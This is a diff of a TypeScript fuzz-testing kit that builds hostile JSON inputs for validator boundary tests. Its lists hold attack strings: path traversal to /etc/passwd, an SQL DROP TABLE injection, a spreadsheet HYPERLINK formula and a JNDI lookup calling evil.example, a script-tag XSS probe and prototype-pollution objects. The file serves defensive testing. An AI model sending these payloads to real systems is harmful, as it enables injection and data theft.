@@ -1,208 +1,180 @@
-import type { Prng } from './prng.testkit';
+import fc from 'fast-check';
+import { applyEdits, deepNest, hugeString, ownKeys, pathsOf, RawJson, type Edit } from './json-text.testkit';
 
 /**
- * Builders of hostile JSON for the boundary fuzz. Values are plain JSON data, except
- * `RawJson`, which is written into the body verbatim: numbers JSON.stringify cannot
- * produce (1e400, -0), and tokens that are not JSON at all (NaN, Infinity).
+ * fast-check arbitraries of hostile input, for the boundary suites (HTTP, CLI, handlers): the
+ * values that break naive validators. Each says what it generates; the named ones
+ * (`NAMED_HOSTILE_VALUES`) are also run as fixed examples, so every seed covers them.
  */
-export class RawJson {
-  constructor(readonly text: string) {}
-}
 
-/** An object with these own keys, `__proto__` included (a literal would set the prototype instead). */
-export function ownKeys(entries: [string, unknown][]): Record<string, unknown> {
-  const out: Record<string, unknown> = {};
-  for (const [key, value] of entries)
-    Object.defineProperty(out, key, { value, enumerable: true, writable: true, configurable: true });
-  return out;
-}
+/** Keys that reach the prototype chain or shadow Object.prototype methods. */
+export const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty'];
 
-/** JSON text for a value that may hold RawJson pieces; iterative, so 10,000 levels are fine. */
-export function toJsonText(value: unknown): string {
-  const out: string[] = [];
-  const stack: unknown[] = [value];
-  while (stack.length > 0) {
-    const item = stack.pop();
-    if (item instanceof Literal) out.push(item.text);
-    else if (item instanceof RawJson) out.push(item.text);
-    else if (Array.isArray(item)) {
-      stack.push(new Literal(']'));
-      for (let i = item.length - 1; i >= 0; i--) {
-        stack.push(item[i]);
-        if (i > 0) stack.push(new Literal(','));
-      }
-      out.push('[');
-    } else if (item !== null && typeof item === 'object') {
-      const keys = Object.keys(item);
-      stack.push(new Literal('}'));
-      for (let i = keys.length - 1; i >= 0; i--) {
-        const key = keys[i] as string;
-        stack.push((item as Record<string, unknown>)[key]);
-        stack.push(new Literal(`${i > 0 ? ',' : ''}${JSON.stringify(key)}:`));
-      }
-      out.push('{');
-    } else if (item === undefined) out.push('null');
-    else out.push(JSON.stringify(item) ?? 'null');
-  }
-  return out.join('');
-}
+/** Edge numbers as JSON can carry them: huge, tiny, negative, beyond 2^53, and raw tokens JSON.stringify cannot write. */
+export const EDGE_NUMBERS: readonly unknown[] = [
+  0,
+  -1,
+  0.5,
+  -0.5,
+  1e30,
+  -1e30,
+  2 ** 53 + 2,
+  -(2 ** 53) - 2,
+  1e308,
+  -1e308,
+  5e-324,
+  new RawJson('-0'),
+  new RawJson('1e400'),
+  new RawJson('-1e400'),
+  new RawJson('1e-400'),
+  new RawJson('123456789012345678901234567890'),
+];
 
-class Literal {
-  constructor(readonly text: string) {}
-}
+/** Text that reads as a number to a lax parser, or as NaN / Infinity. */
+export const NUMBER_LIKE_TEXT = [
+  'NaN',
+  'Infinity',
+  '-Infinity',
+  '1e308',
+  '1e30',
+  '0x10',
+  '12',
+  '-0',
+  ' 12 ',
+  '1_000',
+  '1,5',
+  '+5',
+  '.5',
+  '1e',
+  '１２',
+  '١٢',
+];
 
-/** `levels` nested arrays (or objects) around `inner`, built without recursion. */
-export function deepNest(levels: number, kind: 'array' | 'object', inner: unknown = 1): unknown {
-  let value = inner;
-  for (let i = 0; i < levels; i++) value = kind === 'array' ? [value] : { a: value };
-  return value;
-}
+/** Text that attacks what stores or shows it: traversal, SQL, formulas, markup, invisible and odd code units. */
+export const NASTY_TEXT = [
+  '',
+  ' ',
+  '\t\n\r',
+  '\u00a0\u3000',
+  '\u0000',
+  '\ud800',
+  '\udfff',
+  '\u200b',
+  '\u202e',
+  '\ufeff',
+  '../../etc/passwd',
+  '..\\..\\windows\\win.ini',
+  '%2e%2e%2f',
+  "'; DROP TABLE runs; --",
+  '=HYPERLINK("http://evil.example")',
+  '@SUM(A1)',
+  '<script>alert(1)</script>',
+  '${jndi:ldap://evil.example/a}',
+  '中文',
+  '👩‍👩‍👧',
+  ...PROTOTYPE_KEYS,
+];
 
-/** A 10 MB string: under the body limit, far over every field's limit. */
-export const TEN_MB = 'x'.repeat(10 * 1024 * 1024);
+/** Objects that would pollute Object.prototype if merged naively. */
+export const POLLUTING_OBJECTS = [
+  ownKeys([['__proto__', { polluted: true }]]),
+  ownKeys([['constructor', { prototype: { polluted: true } }]]),
+];
 
-/** Single values that break naive validators: wrong types, edge numbers, number-like strings, nasty text. */
-export function hostileLeaves(): unknown[] {
-  return [
-    null,
-    true,
-    false,
-    0,
-    -1,
-    0.5,
-    -0.5,
-    2 ** 53 + 2,
-    -(2 ** 53) - 2,
-    1e308,
-    -1e308,
-    5e-324,
-    new RawJson('-0'),
-    new RawJson('1e400'),
-    new RawJson('-1e400'),
-    new RawJson('1e-400'),
-    new RawJson('123456789012345678901234567890'),
-    'NaN',
-    'Infinity',
-    '-Infinity',
-    '1e308',
-    '0x10',
-    '12',
-    '',
-    ' ',
-    '\u0000',
-    '\ud800',
-    '../../etc/passwd',
-    "'; DROP TABLE runs; --",
-    '=HYPERLINK("http://evil.example")',
-    '<script>alert(1)</script>',
-    'a'.repeat(100_000),
-    [],
-    {},
-    [1, 'two', null],
-    ownKeys([['__proto__', { polluted: true }]]),
-    ownKeys([['constructor', { prototype: { polluted: true } }]]),
-    deepNest(50, 'array'),
-  ];
-}
+/** Every named hostile value, for fixed examples: each is sent on every run, whatever the seed. */
+export const NAMED_HOSTILE_VALUES: readonly unknown[] = [
+  null,
+  true,
+  false,
+  ...EDGE_NUMBERS,
+  ...NUMBER_LIKE_TEXT,
+  ...NASTY_TEXT,
+  hugeString(100_000),
+  [],
+  {},
+  [1, 'two', null],
+  ...POLLUTING_OBJECTS,
+  deepNest(50, 'array'),
+];
 
-/** A random JSON value of any type, at most `depth` levels deep. */
-export function randomJson(rng: Prng, depth = 3): unknown {
-  const kind = rng.int(depth > 0 ? 8 : 6);
-  switch (kind) {
-    case 0:
-      return rng.pick(hostileLeaves());
-    case 1:
-      return rng.next() * 10 ** rng.int(12) * (rng.chance(0.3) ? -1 : 1);
-    case 2:
-      return randomText(rng);
-    case 3:
-      return rng.chance(0.5);
-    case 4:
-      return null;
-    case 5:
-      return rng.int(1000) - 10;
-    case 6:
-      return Array.from({ length: rng.int(4) }, () => randomJson(rng, depth - 1));
-    default:
-      return ownKeys(
-        Array.from({ length: rng.int(4) }, () => [randomKey(rng), randomJson(rng, depth - 1)] as [string, unknown]),
-      );
-  }
-}
+/** A single UTF-16 code unit, any of 65,536: control characters and lone surrogates included. */
+const codeUnit = fc.integer({ min: 0, max: 0xffff }).map((n) => String.fromCharCode(n));
+const controlChar = fc.integer({ min: 0, max: 0x1f }).map((n) => String.fromCharCode(n));
+const whitespace = fc.constantFrom(' ', '\t', '\n', '\r', '\u000b', '\u00a0', '\u2028', '\u3000', '\ufeff');
 
-const KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'id', 'model', 'x', '', ' ', 'é'];
+/** Hostile text: the named kinds, or random strings of graphemes, raw code units, control characters or whitespace. */
+export const hostileText: fc.Arbitrary<string> = fc.oneof(
+  fc.constantFrom(...NASTY_TEXT, ...NUMBER_LIKE_TEXT),
+  fc.string({ unit: 'grapheme', maxLength: 24 }),
+  fc.string({ unit: codeUnit, maxLength: 24 }),
+  fc.string({ unit: controlChar, minLength: 1, maxLength: 8 }),
+  fc.string({ unit: whitespace, maxLength: 8 }),
+);
 
-function randomKey(rng: Prng): string {
-  return rng.chance(0.6) ? rng.pick(KEYS) : randomText(rng).slice(0, 12);
-}
+/** Hostile numbers: the edge ones, any double (finite), any 32-bit integer, a number written as text. */
+export const hostileNumber: fc.Arbitrary<unknown> = fc.oneof(
+  fc.constantFrom(...EDGE_NUMBERS),
+  fc.double({ noNaN: true, noDefaultInfinity: true }),
+  fc.integer(),
+  fc.double({ noNaN: true, noDefaultInfinity: true }).map(String),
+);
 
-function randomText(rng: Prng): string {
-  const alphabet = 'abcXYZ019 -_.:/\\"\'<>{}[]%\u00e9\u4e2d\u0000\n\t=+@';
-  return Array.from({ length: rng.int(16) }, () => alphabet[rng.int(alphabet.length)]).join('');
-}
+/** A key an object might carry: a prototype key, a common field name, an odd or empty one. */
+export const hostileKey: fc.Arbitrary<string> = fc.oneof(
+  fc.constantFrom(...PROTOTYPE_KEYS, 'id', 'model', 'x', '', ' ', 'é'),
+  fc.string({ unit: 'grapheme', maxLength: 12 }),
+);
 
-type Path = (string | number)[];
+/** One hostile value that is not a container of generated values: a wrong type, an edge number, nasty text. */
+export const hostileLeaf: fc.Arbitrary<unknown> = fc.oneof(
+  fc.constantFrom(null, true, false, [], {}, ...POLLUTING_OBJECTS),
+  hostileNumber,
+  hostileText,
+  fc.integer({ min: 2, max: 200 }).map((levels) => deepNest(levels, 'array')),
+);
 
-/** Every path to a value inside `root` (the root itself is []). */
-export function pathsOf(root: unknown): Path[] {
-  const out: Path[] = [];
-  const stack: { value: unknown; path: Path }[] = [{ value: root, path: [] }];
-  while (stack.length > 0) {
-    const { value, path } = stack.pop()!;
-    out.push(path);
-    if (Array.isArray(value)) value.forEach((v, i) => stack.push({ value: v, path: [...path, i] }));
-    else if (value !== null && typeof value === 'object' && !(value instanceof RawJson)) {
-      for (const key of Object.keys(value))
-        stack.push({ value: (value as Record<string, unknown>)[key], path: [...path, key] });
-    }
-  }
-  return out;
-}
+/** Any JSON value, at most three levels deep, with hostile leaves and keys (objects may own `__proto__`). */
+export const hostileJson: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
+  value: fc.oneof(
+    { maxDepth: 3, depthIdentifier: 'hostile-json' },
+    hostileLeaf,
+    fc.array(tie('value'), { maxLength: 4 }),
+    fc.array(fc.tuple(hostileKey, tie('value')), { maxLength: 4 }).map(ownKeys),
+  ),
+})).value;
 
-/** A deep copy of plain JSON data that keeps own `__proto__` keys and RawJson pieces. */
-export function clone(value: unknown): unknown {
-  if (value instanceof RawJson) return value;
-  if (Array.isArray(value)) return value.map(clone);
-  if (value !== null && typeof value === 'object') {
-    return ownKeys(Object.keys(value).map((k) => [k, clone((value as Record<string, unknown>)[k])]));
-  }
-  return value;
-}
-
-function containerAt(root: unknown, path: Path): unknown {
-  let here = root;
-  for (const step of path) here = (here as Record<string | number, unknown>)[step];
-  return here;
-}
+/** An edit of a valid input: a value replaced by a hostile one, a key deleted, or an unknown key (or element) added. */
+const edit: fc.Arbitrary<Edit> = fc.oneof(
+  {
+    weight: 6,
+    arbitrary: fc.record({
+      kind: fc.constant('replace' as const),
+      at: fc.nat(),
+      value: fc.oneof({ weight: 7, arbitrary: hostileLeaf }, { weight: 3, arbitrary: hostileJson }),
+    }),
+  },
+  { weight: 2, arbitrary: fc.record({ kind: fc.constant('delete' as const), at: fc.nat() }) },
+  {
+    weight: 2,
+    arbitrary: fc.record({ kind: fc.constant('add' as const), at: fc.nat(), key: hostileKey, value: hostileJson }),
+  },
+);
 
 /**
- * A hostile variant of a valid input: one to three edits, each replacing a value with a
- * hostile one, deleting a key, or adding an unknown one. May by chance still be valid:
- * the caller checks with the contract.
+ * Near misses: one of `valid` with one to three edits. May by chance still be valid (a
+ * replaced number that fits, a deleted optional key): the caller checks with the contract.
+ * Shrinks to fewer, simpler edits.
  */
-export function mutate(rng: Prng, valid: unknown): unknown {
-  let value = clone(valid);
-  const edits = 1 + rng.int(3);
-  for (let e = 0; e < edits; e++) {
-    const paths = pathsOf(value);
-    const path = rng.pick(paths);
-    const choice = rng.int(10);
-    if (path.length === 0) {
-      if (choice < 2) value = randomJson(rng);
-      continue;
-    }
-    const parent = containerAt(value, path.slice(0, -1)) as Record<string | number, unknown>;
-    const key = path[path.length - 1] as string | number;
-    if (choice < 6) parent[key] = rng.chance(0.7) ? rng.pick(hostileLeaves()) : randomJson(rng);
-    else if (choice < 8 && !Array.isArray(parent)) delete parent[key];
-    else if (!Array.isArray(parent))
-      Object.defineProperty(parent, rng.pick(KEYS), {
-        value: randomJson(rng, 1),
-        enumerable: true,
-        writable: true,
-        configurable: true,
-      });
-    else parent.push(randomJson(rng, 1));
-  }
-  return value;
+export function mutantOf(valid: readonly unknown[]): fc.Arbitrary<unknown> {
+  return fc
+    .tuple(fc.constantFrom(...valid), fc.array(edit, { minLength: 1, maxLength: 3 }))
+    .map(([base, edits]) => applyEdits(base, edits));
+}
+
+/** `base` with `replacement` put at one of its places (a field or an element; the whole if it has none). */
+export function placedIn(base: unknown, replacement: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
+  const inner = pathsOf(base).length - 1;
+  return fc
+    .tuple(fc.nat(), replacement)
+    .map(([at, value]) => applyEdits(base, [{ kind: 'replace', at: inner > 0 ? 1 + (at % inner) : 0, value }]));
 }
